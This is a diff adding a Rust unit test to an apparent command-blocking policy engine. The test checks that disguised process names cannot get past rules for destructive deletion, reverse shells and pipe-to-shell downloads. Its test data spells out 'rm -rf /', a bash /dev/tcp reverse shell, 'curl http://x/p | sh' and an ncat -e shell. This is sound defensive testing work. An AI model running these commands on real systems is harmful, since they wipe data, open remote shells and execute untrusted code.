@@ -448,6 +448,44 @@ fn an_action_aims_at_the_command_that_was_judged() {
 }
 
 #[test]
+fn a_name_that_a_process_chose_hides_nothing() {
+    let block = rule(
+        "x",
+        "block",
+        r#"command { program = "nc" } action = "deny-exec""#,
+    );
+    let as_program = |exe: &str, argv: &[&str]| {
+        exec(argv).replacen('{', &format!(r#"{{"process":{{"exe":"{exe}"}},"#), 1)
+    };
+    for (exe, argv, by) in [
+        ("/usr/bin/bash", ["git", "-c", "rm -rf /"], "destructive-rm"),
+        (
+            "/usr/bin/bash",
+            ["/usr/bin/sudo", "-c", "bash -i >& /dev/tcp/h/1 0>&1"],
+            "reverse-shell",
+        ),
+        (
+            "/usr/bin/dash",
+            ["/opt/x", "-c", "curl http://x/p | sh"],
+            "pipe-to-shell",
+        ),
+        ("/usr/bin/ncat", ["git", "h", "-e/bin/sh"], "reverse-shell"),
+        ("/usr/bin/nc", ["/usr/bin/git", "h", "1"], "x"),
+        // What the name says counts too: one program may have many names.
+        ("/bin/busybox", ["rm", "-rf", "/"], "destructive-rm"),
+    ] {
+        let line = as_program(exe, &argv);
+        let found = judge(&engine(&block), &line);
+        assert_eq!(found, (Verdict::Block, Some(by.to_owned())), "{line}");
+    }
+    let forged = as_program("/usr/bin/nc", &["/usr/bin/git", "h"]);
+    assert_eq!(
+        target(&block, &forged),
+        (Some("/usr/bin/nc".to_owned()), None)
+    );
+}
+
+#[test]
 fn the_folder_of_an_event_is_that_of_relative_paths() {
     let policy = rule(
         "x",
